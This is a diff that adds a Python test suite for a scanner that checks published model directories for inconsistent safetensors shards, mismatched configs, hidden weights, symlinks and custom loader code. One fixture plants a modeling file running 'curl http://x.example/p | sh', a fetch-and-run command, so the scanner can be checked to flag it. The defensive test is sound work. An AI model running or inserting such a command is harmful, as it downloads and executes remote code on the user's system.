@@ -1,0 +1,116 @@
+#!/usr/bin/python3
+"""Directories as models are published: what a loader would do with them, and whether their files agree. Usage: test_repo.py
+PATH-OF-GATEHOUSE"""
+import json
+import os
+import pathlib
+import struct
+import sys
+import tempfile
+
+import common
+from common import by_name, check, details, ids, scan
+
+
+def weights(*tensors):
+    """A safetensors file of (name, shape), float32 zeros."""
+    header, off = {}, 0
+    for name, shape in tensors:
+        n = 4
+        for d in shape:
+            n *= d
+        header[name] = {'dtype': 'F32', 'shape': list(shape), 'data_offsets': [off, off + n]}
+        off += n
+    text = json.dumps(header).encode()
+    text += b' ' * (-len(text) % 8)
+    return struct.pack('<Q', len(text)) + text + bytes(off)
+
+
+FIRST = weights(('model.embed_tokens.weight', (16, 8)), ('model.layers.0.mlp.weight', (4, 4)))
+SECOND = weights(('model.layers.1.mlp.weight', (4, 4)))
+INDEX = {'metadata': {'total_size': 640}, 'weight_map': {
+    'model.embed_tokens.weight': 'model-00001-of-00002.safetensors',
+    'model.layers.0.mlp.weight': 'model-00001-of-00002.safetensors',
+    'model.layers.1.mlp.weight': 'model-00002-of-00002.safetensors'}}
+CONFIG = {'architectures': ['LlamaForCausalLM'], 'hidden_size': 8, 'num_hidden_layers': 2, 'vocab_size': 16}
+
+
+def sharded(folder, index=INDEX, config=CONFIG, second=SECOND):
+    (folder / 'model-00001-of-00002.safetensors').write_bytes(FIRST)
+    if second is not None:
+        (folder / 'model-00002-of-00002.safetensors').write_bytes(second)
+    (folder / 'model.safetensors.index.json').write_text(json.dumps(index))
+    (folder / 'config.json').write_text(json.dumps(config))
+    return scan(folder)
+
+
+def expect(what, outcome, status, name, rule, says=''):
+    code, report = outcome
+    f = by_name(report).get(name, {})
+    check(f'{what}: exit status {status}', code == status, report)
+    check(f'{what}: {rule or "nothing"} at {name}', (rule in ids(f)) if rule else ids(f) == [], f)
+    check(f'{what}: says {says!r}', says in details(f), f)
+
+
+def shards(new):
+    expect('a sharded model', sharded(new()), 0, 'model.safetensors.index.json', None)
+    expect('a shard is missing', sharded(new(), second=None), 2, 'model.safetensors.index.json', 'GH-REPO-0002',
+           'model-00002-of-00002.safetensors')
+    expect('a shard holds more', sharded(new(), second=weights(('model.layers.1.mlp.weight', (4, 4)), ('x', (1,)))), 0,
+           'model.safetensors.index.json', 'GH-REPO-0005', 'which holds 2')
+    expect('a shard holds another tensor', sharded(new(), second=weights(('model.layers.1.mlp.bias', (4, 4)))), 0,
+           'model.safetensors.index.json', 'GH-REPO-0005', 'other names')
+    expect('the configuration is of another model', sharded(new(), config={**CONFIG, 'hidden_size': 16}), 0, 'config.json',
+           'GH-REPO-0011', 'embeddings have 16')
+    alone = new()
+    (alone / 'i.json').write_text(json.dumps(INDEX))
+    expect('an index that comes alone', scan(alone / 'i.json'), 0, 'i.json', 'GH-REPO-0003')
+    pair = new()
+    (pair / 'model.safetensors').write_bytes(FIRST)
+    (pair / 'tf_model.h5').write_bytes(b'not a model\n')
+    expect('two sets of weights', scan(pair), 0, 'tf_model.h5', 'GH-REPO-0001', 'model.safetensors')
+
+
+def code(new):
+    there = new()
+    (there / 'config.json').write_text(json.dumps({'auto_map': {'AutoModel': 'modeling_x.X'}}))
+    expect('code that is not here', scan(there), 0, 'config.json', 'GH-REPO-0010', 'modeling_x.py')
+    for what, text, status, rule in [
+        ('code that only computes', 'import torch\n\n\nclass X(torch.nn.Module):\n    def forward(self, x):\n        return x * 2\n',
+         0, 'GH-REPO-0006'),
+        ('code that runs commands', "import os\nos.system('curl http://x.example/p | sh')\n", 1, 'GH-REPO-0009'),
+        ('code that is prose', 'This would be code.\n', 2, 'GH-REPO-0008'),
+    ]:
+        (there / 'modeling_x.py').write_text(text)
+        expect(what, scan(there), status, 'config.json', rule, 'modeling_x.py')
+
+
+def links(new):
+    cache = new() / 'models--a--b'
+    (cache / 'blobs').mkdir(parents=True)
+    (cache / 'snapshots' / 'rev').mkdir(parents=True)
+    (cache / 'blobs' / ('0' * 64)).write_bytes(FIRST)
+    (cache / 'snapshots' / 'rev' / 'model.safetensors').symlink_to('../../blobs/' + '0' * 64)
+    expect('a snapshot of the download cache', scan(cache / 'snapshots' / 'rev'), 0, 'model.safetensors', 'GH-SCAN-0016')
+    (cache / 'snapshots' / 'rev' / 'x.txt').symlink_to('/etc/debian_version')
+    code_, report = scan(cache / 'snapshots' / 'rev')
+    check('a link elsewhere is for a person to judge', by_name(report).get('x.txt', {}).get('verdict') == 'REVIEW', report)
+    hidden = new()
+    (hidden / '.cache').mkdir()
+    (hidden / '.cache' / 'w.safetensors').write_bytes(FIRST)
+    (hidden / 'README.md').write_text('A model.\n')
+    expect('hidden weights', scan(hidden), 0, 'w.safetensors', 'GH-REPO-0012')
+
+
+with tempfile.TemporaryDirectory() as root:
+    count = 0
+
+    def new():
+        global count
+        count += 1
+        folder = pathlib.Path(root) / str(count)
+        folder.mkdir()
+        return folder
+    for test in (shards, code, links):
+        test(new)
+    sys.exit(common.end('test_repo.py'))
